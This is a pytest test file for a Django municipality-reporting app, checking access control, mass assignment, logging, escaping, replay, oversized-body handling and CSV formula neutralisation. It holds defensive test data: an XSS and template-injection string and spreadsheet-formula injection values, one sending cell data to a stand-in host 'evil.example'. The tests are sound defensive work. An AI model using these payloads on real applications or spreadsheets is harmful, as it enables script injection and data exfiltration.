"""Security IDs of ../shared/RELIABILITY.md that had no explicit test elsewhere.

A-1 (cross-office write, with the security event's fields), A-3 (mass assignment), A-4 (the directorate
writes nowhere but its own objects, every refusal logged; it reads all 356 municipalities), B-2 (escaping on
the conflict page and in report texts), B-3 (a replayed submission), B-4 (an oversized body), X-1 (CSV).
docs/security-tests.md maps every ID to its tests.
"""

import io
import json

import pytest
from django.apps import apps
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import SecurityEvent
from api.services import api_token_create
from municipalities.facts import GoodExample, StatusFact
from municipalities.models import Municipality, Office
from municipalities.selectors import municipality_list_for_user
from networks.models import Network
from reporting.models import Report, ReportingPeriod, ReportSubmission, ReportText
from tests.access.test_matrix import ENTRIES, URL_NAMES
from tests.factories import municipality, record

HTTPS = {"HTTP_X_FORWARDED_PROTO": "https"}


def _csrf_client(user) -> Client:
    """A client that enforces CSRF like a browser, with the token of a page it has loaded."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    return client


def _token(client, url: str) -> str:
    response = client.get(url, **HTTPS)
    assert response.status_code == 200, url
    return str(response.context["csrf_token"])


def _fact_data(number: str) -> dict:
    return {
        "fact": "phase",
        "value": "3",
        "effective_date": "2021-04-01",
        "status_version": str(municipality(number).status_version),
        "loaded_at": timezone.now().isoformat(),
    }


# --- A-1 ------------------------------------------------------------------------------------------------


def test_a1_staff_of_a_posting_for_a_municipality_of_b_is_refused_unchanged_and_logged(staff_a, office_b):
    hamar = Municipality.objects.filter(office=office_b).order_by("number").first()
    record(hamar.number, "phase", "2", "2021-01-01", user=staff_a)  # history to keep (recorded as setup)
    before = list(StatusFact.objects.filter(municipality=hamar).values_list("pk", "value", "recorded_at"))
    version = municipality(hamar.number).status_version
    client = _csrf_client(staff_a)
    page = client.get(reverse("municipalities:municipality-detail", args=["0301"]))
    token = str(page.context["csrf_token"])  # a real token
    started = timezone.now()
    url = reverse("municipalities:fact-create", args=[hamar.number])
    response = client.post(
        url,
        {**_fact_data(hamar.number), "csrfmiddlewaretoken": token},
    )

    assert response.status_code in (403, 404)
    assert list(StatusFact.objects.filter(municipality=hamar).values_list("pk", "value", "recorded_at")) == before
    assert municipality(hamar.number).status_version == version
    event = SecurityEvent.objects.get()
    assert event.user == staff_a
    assert event.username == "staff-a"
    assert event.office_slug == "oslo-og-viken"
    assert hamar.number in event.target
    assert (event.path, event.method, event.outcome) == (url, "POST", "denied")
    assert started <= event.created_at <= timezone.now()
    assert event.created_at.utcoffset().total_seconds() == 0  # stored and read as UTC
    assert event.ip_address == "127.0.0.1"


@pytest.mark.parametrize(
    ("name", "kwargs", "data"),
    [
        ("municipalities:fact-retract", "retract", {"reason": "Feil", "status_version": "1"}),
        ("municipalities:example-create", "example", {"title": "X", "text": "Y", "date": "2021-03-01"}),
        ("networks:create", "network", {"name": "N", "slug": "n", "status": "new"}),
        ("sheets:group-change", "office", {"fact": "phase", "value": "3"}),
    ],
)
def test_a1_other_writes_on_office_b_are_refused_and_logged(client, staff_a, staff_b, office_b, name, kwargs, data):
    hamar = Municipality.objects.filter(office=office_b).order_by("number").first()
    fact = record(hamar.number, "phase", "2", "2021-01-01", user=staff_b)
    args = {
        "retract": {"number": hamar.number, "pk": fact.pk},
        "example": {"number": hamar.number},
        "network": {"slug": office_b.slug},
        "office": {"slug": office_b.slug},
    }[kwargs]
    counts = [m.objects.count() for m in (StatusFact, GoodExample, Network)]
    client.force_login(staff_a)
    response = client.post(reverse(name, kwargs=args), data, **HTTPS)
    assert response.status_code in (403, 404)
    assert [m.objects.count() for m in (StatusFact, GoodExample, Network)] == counts
    event = SecurityEvent.objects.get()
    assert (event.username, event.office_slug, event.outcome) == ("staff-a", "oslo-og-viken", "denied")


# --- A-3 ------------------------------------------------------------------------------------------------


def test_a3_extra_fields_on_the_record_form_are_ignored(client_a, staff_a, staff_b, office_b):
    hamar = Municipality.objects.filter(office=office_b).order_by("number").first()
    extra = {
        "office": office_b.pk,
        "municipality": hamar.pk,
        "recorded_by": staff_b.pk,
        "created_by": staff_b.pk,
        "source": "import",
        "recorded_at": "2019-01-01T00:00:00+00:00",
        "status_locked": "false",
    }
    response = client_a.post(reverse("municipalities:fact-create", args=["0301"]), {**_fact_data("0301"), **extra})
    assert response.status_code == 302
    fact = StatusFact.objects.get()
    assert fact.municipality.number == "0301"
    assert fact.recorded_by == staff_a
    assert fact.source == "form"
    assert fact.recorded_at.year == timezone.now().year
    assert not StatusFact.objects.filter(municipality=hamar).exists()


def test_a3_extra_fields_on_network_and_example_forms_are_ignored(client_a, staff_a, staff_b, office_a, office_b):
    response = client_a.post(
        reverse("networks:create", args=[office_a.slug]),
        {
            "name": "Nettverk Øst",
            "slug": "ost",
            "status": "new",
            "office": office_b.pk,
            "created_by": staff_b.pk,
        },
    )
    assert response.status_code == 302
    network = Network.objects.get(slug="ost")
    assert (network.office, network.created_by) == (office_a, staff_a)

    hamar = Municipality.objects.filter(office=office_b).order_by("number").first()
    response = client_a.post(
        reverse("municipalities:example-create", args=["0301"]),
        {
            "title": "Måltidsvert",
            "text": "Fast vert.",
            "date": "2021-03-01",
            "municipality": hamar.pk,
            "recorded_by": staff_b.pk,
        },
    )
    assert response.status_code == 302
    example = GoodExample.objects.get()
    assert (example.municipality.number, example.recorded_by) == ("0301", staff_a)


def test_a3_report_texts_cannot_be_aimed_at_another_office(client_a, staff_a, office_a, office_b):
    spring = ReportingPeriod.objects.get(slug="spring-2021")
    response = client_a.post(
        reverse("reports:autosave", args=[office_a.slug, spring.slug]),
        {"round": "0", "text_assessment": "Vår tekst", "office": office_b.pk, "report": 999999, "user": 1},
    )
    assert response.status_code == 200
    text = ReportText.objects.get()
    assert text.report.office == office_a
    assert not Report.objects.filter(office=office_b).exists()


# --- A-4 ------------------------------------------------------------------------------------------------

# Rows the directorate may legitimately cause while being refused: the refusal log and sessions.
_LOG_MODELS = {"accounts.securityevent", "sessions.session", "axes.accessattempt", "axes.accesslog"}


def _row_counts() -> dict[str, int]:
    return {
        m._meta.label_lower: m.objects.count()
        for m in apps.get_models()
        if m._meta.managed and not m._meta.proxy and m._meta.label_lower not in _LOG_MODELS
    }


def test_a4_directorate_posts_to_every_office_write_endpoint_get_403_no_change_and_a_log_line(
    client, staff_a, staff_b, directorate_user, admin_user, office_a, office_b
):
    from types import SimpleNamespace

    ctx = SimpleNamespace(
        office_a=office_a,
        office_b=office_b,
        municipality_a=municipality("0301"),
        staff_a=staff_a,
        staff_b=staff_b,
        directorate=directorate_user,
        admin=admin_user,
    )
    refused = [n for n in URL_NAMES if ENTRIES[n].post.get("directorate") == 403]
    for expected in ("municipalities:fact-create", "sheets:sheet-upload", "sheets:group-change", "networks:create"):
        assert expected in refused, expected
    client.force_login(directorate_user)
    for name in refused:
        entry = ENTRIES[name]
        url = reverse(name, kwargs=entry.kwargs(ctx))
        data = entry.post_data(ctx)
        headers = dict(HTTPS)
        if entry.token:  # the API: the directorate's own token, a JSON body
            token = api_token_create(user=directorate_user, name=f"a4 {name}", days=1)[1]
            headers.update(HTTP_AUTHORIZATION=f"Bearer {token}", content_type="application/json")
            data = json.dumps(data)
        logged_before = SecurityEvent.objects.order_by("id").values_list("id", flat=True).last() or 0
        before = _row_counts()
        response = client.post(url, data, **headers)
        # A draft the directorate may not even see (an unpublished plan) answers 404, logged the same way.
        allowed = (403, 404) if entry.get.get("directorate") == 404 else (403,)
        assert response.status_code in allowed, f"{name}: {response.status_code}"
        assert _row_counts() == before, name
        event = SecurityEvent.objects.get(id__gt=logged_before)  # the log is append-only: the new event
        assert (event.username, event.outcome, event.path) == ("hdir", "denied", url), name


def test_a4_directorate_cannot_import_or_submit(client, directorate_user, office_a):
    spring = ReportingPeriod.objects.get(slug="spring-2021")
    client.force_login(directorate_user)
    upload = io.BytesIO(b"PK\x03\x04 not really a workbook")
    upload.name = "ark.xlsx"
    response = client.post(reverse("sheets:sheet-upload", args=[office_a.slug]), {"file": upload}, **HTTPS)
    assert response.status_code == 403
    response = client.post(reverse("reports:submit", args=[office_a.slug, spring.slug]), {"round": "0"}, **HTTPS)
    assert response.status_code in (403, 404)
    assert not ReportSubmission.objects.exists()
    assert SecurityEvent.objects.filter(username="hdir", outcome="denied").count() == 2


def test_a4_directorate_reads_all_356_municipalities(client, directorate_user):
    assert municipality_list_for_user(user=directorate_user).count() == 356
    client.force_login(directorate_user)
    listed = 0
    for office in Office.objects.all():
        response = client.get(reverse("municipalities:office-detail", args=[office.slug]), **HTTPS)
        assert response.status_code == 200
        listed += len(response.context["rows"])
        first = Municipality.objects.filter(office=office).order_by("number").first()
        page = client.get(reverse("municipalities:municipality-detail", args=[first.number]), **HTTPS)
        assert page.status_code == 200
        assert page.context["can_write"] is False
    assert listed == 356
    assert not SecurityEvent.objects.exists()


# --- B-2, B-3, B-4 ----------------------------------------------------------------------------------------

HOSTILE = '"><img src=x onerror=alert(1)><script>alert(1)</script>{{7*7}}'


def test_b2_typed_text_is_escaped_on_the_conflict_page(client_a, staff_a2):
    data = {**_fact_data("0301"), "note": HOSTILE}
    record("0301", "decision", "plan_adopted", "2021-02-01", user=staff_a2, detail=HOSTILE)  # moves the version
    response = client_a.post(reverse("municipalities:fact-create", args=["0301"]), data)
    assert response.status_code == 409
    html = response.content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "<img src=x onerror" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_b2_report_texts_are_escaped_on_the_report_and_print_pages(client, staff_a, directorate_user, office_a):
    from reporting.reports.services import report_submit, report_texts_save

    spring = ReportingPeriod.objects.get(slug="spring-2021")
    report_texts_save(office=office_a, period=spring, texts={"assessment": HOSTILE}, user=staff_a, round=0)
    report_submit(office=office_a, period=spring, user=staff_a)
    client.force_login(directorate_user)
    for url in (
        reverse("reports:report", args=[office_a.slug, spring.slug]),
        reverse("reports:version", args=[office_a.slug, spring.slug, 1]),
        reverse("reports:print", args=[office_a.slug, spring.slug, 1]),
    ):
        html = client.get(url).content.decode()
        assert "<script>alert(1)</script>" not in html, url
        assert "<img src=x onerror" not in html, url
        assert "{{7*7}}" in html, url  # shown literally, never evaluated


def test_b3_a_replayed_submission_makes_no_second_version(client_a, office_a):
    spring = ReportingPeriod.objects.get(slug="spring-2021")
    url = reverse("reports:submit", args=[office_a.slug, spring.slug])
    client_a.post(reverse("reports:save", args=[office_a.slug, spring.slug]), {"round": "0", "text_assessment": "A"})
    first = client_a.post(url, {"round": "0"})
    assert first.status_code == 302
    replay = client_a.post(url, {"round": "0"}, follow=True)
    assert "allerede sendt inn" in replay.content.decode()
    assert ReportSubmission.objects.count() == 1
    assert Report.objects.get(office=office_a).version == 1
    late_save = client_a.post(
        reverse("reports:save", args=[office_a.slug, spring.slug]), {"round": "0", "text_assessment": "Endret"}
    )
    assert late_save.status_code == 409
    assert ReportText.objects.filter(text="Endret").count() == 0


def test_b4_a_body_over_the_limit_is_400_not_500(client_a):
    response = client_a.post(
        reverse("municipalities:fact-create", args=["0301"]), {**_fact_data("0301"), "note": "x" * 2_700_000}
    )
    assert response.status_code == 400
    assert not StatusFact.objects.exists()


# --- X-1 (CSV) -----------------------------------------------------------------------------------------------


def test_x1_csv_export_neutralises_formula_text(staff_a, office_a):
    """X-1 for CSV: free text that a spreadsheet would read as a formula starts with an apostrophe."""
    import csv
    import datetime

    from reporting.models import GrantConfirmation

    dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1"]
    oslo = municipality("0301")
    for text in dangerous:
        GrantConfirmation.objects.create(
            municipality=oslo,
            year=2021,
            confirmed=True,
            reason=text,
            as_of=datetime.date(2021, 6, 1),
            criterion_1=False,
            criterion_2=False,
            criterion_3=False,
            criterion_4=False,
            recorded_by=staff_a,
        )
        out = io.StringIO()
        call_command("grant_priority", "--office", office_a.slug, "--year", "2021", stdout=out)
        rows = {row["kommunenummer"]: row for row in csv.DictReader(io.StringIO(out.getvalue(), newline=""))}
        reason = rows["0301"]["reason"]
        assert reason.startswith("'"), repr(reason)
        if text[0] not in "\t\r":
            assert reason == "'" + text  # the rest of the text is kept as it was
